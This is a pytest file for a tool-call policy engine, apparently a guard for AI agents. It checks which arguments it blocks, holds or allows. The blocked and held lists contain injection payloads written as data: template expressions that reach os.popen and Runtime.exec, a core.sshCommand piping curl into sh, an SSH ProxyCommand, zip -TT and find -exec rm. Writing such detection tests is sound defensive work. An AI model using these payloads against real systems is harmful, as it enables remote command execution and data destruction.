"""Payloads in arguments that are not command lines: template expressions reaching code, options split across argv words."""

from __future__ import annotations

import pytest

from aegis_mcp.engine.engine import Engine
from aegis_mcp.engine.model import ToolCall

ENGINE = Engine()

BLOCKED = [
    ("render_email", {"template": "Hi {{ cycler.__init__.__globals__.os.popen('uname -a').read() }}", "to": "a@acme.example"}),
    ("preview_page", {"layout": "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}"}),
    ("spring_eval", {"expression": "*{T(java.lang.Runtime).getRuntime().exec('whoami')}"}),
    ("hg", {"argv": ["clone", "ssh://hg.acme.example/repo", "--config", "core.sshCommand=curl x|sh"]}),
    ("ssh_exec", {"args": ["-o", "ProxyCommand=bash -c 'id > /tmp/p'", "bastion", "uptime"]}),
]
HELD = [  # a command-running option whose value follows after a space, in a free-text argument: held
    ("compress", {"archive": "logs.zip", "options": "-TT 'bash -c \"id > /tmp/q\"'"}),
    ("search_files", {"root": ".", "glob": "*.tmp", "flags": "-exec rm -f {} ;"}),
    ("post_message", {"channel": "#sec", "text": "Found SSTI: {{ ''.__class__.__mro__[1].__subclasses__() }} rendered on /preview"}),
]
ALLOWED = [
    ("render_email", {"template": "Hi {{ user.first_name }}, your order {{ order.id }} ships {{ ship_date | date('d M') }}.", "to": "a@acme.example"}),
    ("preview_page", {"layout": "{% for item in items %}<li>{{ item.title }}</li>{% endfor %}"}),
    ("write_file", {"path": "src/model.py", "content": "class A:\n    def __init__(self):\n        self.name = f\"{self.__class__.__name__}\"\n"}),
    ("hg", {"argv": ["clone", "ssh://hg.acme.example/repo", "--config", "ui.username=Ann <ann@acme.example>"]}),
    ("ssh_exec", {"args": ["-o", "StrictHostKeyChecking=accept-new", "bastion", "uptime"]}),
    ("compress", {"archive": "logs.zip", "options": "-9 -r"}),
    ("search_files", {"root": ".", "glob": "*.py", "flags": "-mtime -2 -type f"}),
]


@pytest.mark.parametrize("tool,args", BLOCKED)
def test_blocked(tool: str, args: dict) -> None:
    d = ENGINE.check(ToolCall(tool, args))
    assert d.decision == "block", [(s.pattern, s.rule) for s in d.signals]


@pytest.mark.parametrize("tool,args", HELD)
def test_held(tool: str, args: dict) -> None:
    d = ENGINE.check(ToolCall(tool, args))
    assert d.decision in ("pending", "block"), [(s.pattern, s.rule) for s in d.signals]


@pytest.mark.parametrize("tool,args", ALLOWED)
def test_allowed(tool: str, args: dict) -> None:
    d = ENGINE.check(ToolCall(tool, args))
    assert d.decision == "allow", [(s.pattern, s.rule) for s in d.signals]
